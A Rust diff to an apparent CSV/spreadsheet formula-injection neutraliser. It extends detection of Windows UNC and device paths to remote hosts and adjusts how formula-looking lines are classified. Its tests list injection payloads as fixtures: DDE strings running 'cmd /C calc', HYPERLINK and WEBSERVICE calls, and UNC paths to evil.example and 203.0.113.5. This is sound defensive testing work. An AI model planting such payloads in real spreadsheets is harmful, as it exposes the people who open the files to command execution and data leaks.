@@ -119,9 +119,19 @@ fn leads_away(line: &str) -> bool {
         Some(scheme) if scheme.eq_ignore_ascii_case("file:") => &path[5..],
         _ => path,
     };
-    let host = path.trim_start_matches(['/', '\\']);
-    if path.len() - host.len() < 2 {
+    let slashes = ['/', '\\'];
+    let mut host = path.trim_start_matches(slashes);
+    if path.len() - host.len() < 2 && !path.starts_with("\\??\\") {
         return false;
+    }
+    // What the system itself calls such a path.
+    let device = host.strip_prefix("??").or_else(|| host.strip_prefix(['?', '.']));
+    let device = device.map(|rest| rest.trim_start_matches(slashes));
+    if let Some(device) = device
+        && device.get(..3).is_some_and(|name| name.eq_ignore_ascii_case("unc"))
+        && device[3..].starts_with(slashes)
+    {
+        host = device[3..].trim_start_matches(slashes);
     }
     let end = host.find(['/', '\\', '@', ':']).unwrap_or(host.len());
     let name = host[..end].to_ascii_lowercase();
@@ -230,13 +240,12 @@ fn divider_of(letters: &str) -> Option<char> {
 type Mark = fn(&str, char) -> bool;
 
 /// What is looked for behind a cell's begin: its ends, and what makes a call of it.
-const MARKS: [Mark; 8] = [
+const MARKS: [Mark; 7] = [
     |_, letter| letter == '"',
     |_, letter| matches!(letter, '\n' | '\r'),
     |_, letter| matches!(letter, '(' | '|' | '!' | '（' | '｜' | '！'),
     |_, letter| matches!(letter, '|' | '｜'),
     |_, letter| matches!(letter, '!' | '！'),
-    |before, letter| matches!(letter, '(' | '（') && before.ends_with(char::is_alphanumeric),
     |before, letter| matches!(letter, '(' | '（') && reaches(before),
     |before, letter| matches!(letter, '!' | '！') && before.ends_with(['\'', '＇', ']', '］']),
 ];
@@ -245,9 +254,8 @@ const LINE: usize = 1;
 const REACH: usize = 2;
 const BAR: usize = 3;
 const MARK: usize = 4;
-const CALL: usize = 5;
-const FAR_CALL: usize = 6;
-const FAR_SHEET: usize = 7;
+const FAR_CALL: usize = 5;
+const FAR_SHEET: usize = 6;
 
 /// Functions of spreadsheets that load something, send something or run something, as far as they are written in a text.
 const FAR: &[&str] = &[
@@ -320,16 +328,15 @@ impl<'t> Ahead<'t> {
     fn is_call(&mut self, at: usize, quoted: bool) -> bool {
         let end = self.next(if quoted { QUOTE } else { LINE }, at);
         let line = self.letters[at..end].trim_start_matches(is_before);
-        if line.starts_with(['=', '＝']) {
+        let is_heading =
+            |formula: &str| formula.starts_with(|letter: char| letter.is_whitespace() || letter == '=');
+        if line.strip_prefix(['=', '＝']).is_some_and(|formula| !is_heading(formula)) {
             return self.next(REACH, at) < end;
         }
-        let formula = line.trim_start_matches(['+', '-', '@', '＋', '－', '＠']);
+        // Lists, patches and programs begin lines with a sign, and have names and brackets behind it: those call nothing by
+        // a name of their own making.
         let is_far = self.next(FAR_CALL, at) < end || self.next(FAR_SHEET, at) < end;
-        // Behind a sign and a blank lists have their words: those call nothing by a name of their own making.
-        let is_list = formula.starts_with(char::is_whitespace);
-        is_far
-            || !is_list && self.next(CALL, at) < end
-            || self.next(BAR, at) < end && self.next(MARK, at) < end
+        is_far || self.next(BAR, at) < end && self.next(MARK, at) < end
     }
 }
 
@@ -416,12 +423,13 @@ mod tests {
         let harmful = [
             "=cmd|' /C calc'!A0",
             "名前\n=HYPERLINK(\"http://x\",1)",
-            "a,@SUM(1)",
+            "a,@HYPERLINK(\"http://x\")",
+            "= WEBSERVICE(\"http://x\")",
             "a\t+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0",
             "＝ＷＥＢＳＥＲＶＩＣＥ（1）",
             "='http://x/[a.xls]b'!A1",
-            "+(1)+SUM(1)",
+            "+(1)+IMAGE(A1)",
             "\"=IMPORTXML(\"\"http://x\"\")\"",
             "+ cmd|'/c calc'!A0",
             "+\u{a0}cmd|'/c calc'!A0",
@@ -447,6 +455,9 @@ mod tests {
             "-v, --verbose",
             "- f(x) を使う\n- 点検（国道）\n- 画像(image)を貼る!",
             "- `open(file)`: 開く\n- run it (twice)",
+            "-print(\"a\")\n+print(\"b\")\n@app.route(\"/\")\n@Test(expected=E.class)\n@import url(\"a.css\")",
+            "= 見出し (a)\n== 節 (b) ==",
+            "a,@SUM(1)",
         ];
         for text in prose {
             assert_eq!(neutralise(text, Harm::Calls).1, 0, "{text}");
@@ -462,6 +473,9 @@ mod tests {
             "file://\\evil.example/s/leak",
             " \"FILE:////203.0.113.5/s/a.wav\"",
             "\u{feff}\\\\203.0.113.5\\a",
+            "\\\\?\\UNC\\evil.example\\a",
+            "\\??\\unc\\evil.example\\a",
+            "\\\\.\\UNC\\203.0.113.5\\a",
         ] {
             let (made, changed) = kept_here(&format!("a\r\n{line}\r\nb"));
             assert_eq!((made, changed), (format!("a\r\n'{line}\r\nb"), 1));
